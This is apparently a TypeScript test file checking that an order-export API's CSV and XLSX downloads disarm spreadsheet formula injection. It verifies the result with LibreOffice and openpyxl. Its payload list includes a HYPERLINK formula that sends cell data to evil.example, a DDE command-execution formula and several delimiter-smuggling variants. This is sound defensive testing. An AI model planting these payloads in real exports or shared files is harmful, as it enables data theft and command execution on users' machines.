import { execFileSync, spawnSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect } from 'vitest';
import { addShop } from '../support/api.ts';
import { makeOrders, type OracleOrder, storeOrders } from '../support/orders.ts';
import { lacksOpenpyxl, readWorkbook } from '../support/read-table.ts';
import { fault } from './support/fault.ts';

const harmful = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＠SUM(1)',
  'Mug;=1+1',
  'Mug\n=1+1',
  'Mug\t=1+1',
  '"=1+1"',
  '",=1+1,"',
];

/** How a spreadsheet may be told, or may guess, to take a CSV file apart; formulas are asked for in each. */
const separators = { comma: 44, semicolon: 59, tab: 9 };

fault(
  {
    id: 'K6',
    title: 'text that a spreadsheet could run is text to LibreOffice and openpyxl, in CSV and XLSX',
    lacks: () => lacksLibreOffice() ?? lacksOpenpyxl(),
  },
  async ({ rig: start, seed, cleanUp }) => {
    const folder = mkdtempSync(join(tmpdir(), 'tideline-k6-'));
    cleanUp(() => rmSync(folder, { recursive: true }));
    const formulas = (name: string, bytes: Uint8Array, separator?: number): string[] =>
      formulasOf(join(folder, name), bytes, separator);
    // They would be seen: the same text undisarmed is a formula to LibreOffice.
    const undisarmed = Buffer.from('name,note\r\n=1+1,"Mug;=1+1"\r\n');
    expect(formulas('undisarmed.csv', undisarmed, separators.comma)).toHaveLength(1);
    expect(formulas('undisarmed-semicolon.csv', undisarmed, separators.semicolon)).not.toEqual([]);

    const rig = await start({ orders: 20, seed });
    const shop = await addShop(rig.sql, { name: '=1+1' });
    await storeOrders(rig.sql, shop, harmfulOrders());
    const download = async (format: string): Promise<Uint8Array> => {
      const response = await fetch(`${rig.apiUrl}/api/v1/shops/${shop}/orders?format=${format}`, {
        headers: { authorization: `Bearer ${rig.apiKey}` },
      });
      expect(response.status).toBe(200);
      return new Uint8Array(await response.arrayBuffer());
    };
    const csv = await download('csv');
    const xlsx = await download('xlsx');
    const found = [
      ...Object.entries(separators).flatMap(([name, code]) =>
        formulas(`orders-${name}.csv`, csv, code).map((formula) => `CSV read with a ${name}: ${formula}`),
      ),
      ...formulas('orders.xlsx', xlsx).map((formula) => `XLSX: ${formula}`),
    ];
    const [header, ...rows] = readWorkbook(xlsx)[0]?.rows ?? [];
    const at = (name: string): number => header?.findIndex((cell) => cell.value === name) ?? -1;
    expect(rows.flat().filter((cell) => cell.type === 'f')).toEqual([]);
    expect(rows.map((row) => row[at('total_amount')]?.value)).toEqual(harmful.map(() => -24.9));
    // Not every version of openpyxl knows this escape of the format.
    const told = rows.map((row) => String(row[at('buyer_id')]?.value).replace('_x000D_', '\r'));
    expect([...told].sort()).toEqual([...harmful].sort());
    return {
      done: `${harmful.length} texts that look like formulas, in CSV read in three ways and in XLSX`,
      verdict: { lost: 0, doubled: 0, refetched: null, differences: found },
    };
  },
);

function harmfulOrders(): OracleOrder[] {
  return makeOrders({ count: harmful.length, seed: 3, currency: 'USD' }).map((order, index) => {
    const text = harmful[index] ?? '';
    const lines = order.lines.map((line) => ({ ...line, product_name: text, seller_sku: text }));
    return { ...order, buyer_id: text, total_amount: '-24.90', lines };
  });
}

function lacksLibreOffice(): string | null {
  return spawnSync('soffice', ['--version']).status === 0
    ? null
    : 'needs LibreOffice (apt-get install libreoffice-calc-nogui)';
}

/** Formulas that LibreOffice sees in a file. */
function formulasOf(source: string, bytes: Uint8Array, separator?: number): string[] {
  writeFileSync(source, bytes);
  // Separator, quote, UTF-8, first line, …, special numbers, …, and at the end: evaluate formulas.
  const filter = `--infilter=CSV:${separator},34,76,1,,0,false,true,false,false,false,0,true`;
  execFileSync('soffice', [
    ...[`-env:UserInstallation=file://${join(dirname(source), 'profile')}`, '--headless'],
    ...(separator === undefined ? [] : [filter]),
    ...['--convert-to', 'fods', '--outdir', dirname(source), source],
  ]);
  const sheet = readFileSync(source.replace(/\.\w+$/, '.fods'), 'utf8');
  return [...sheet.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula ?? '');
}
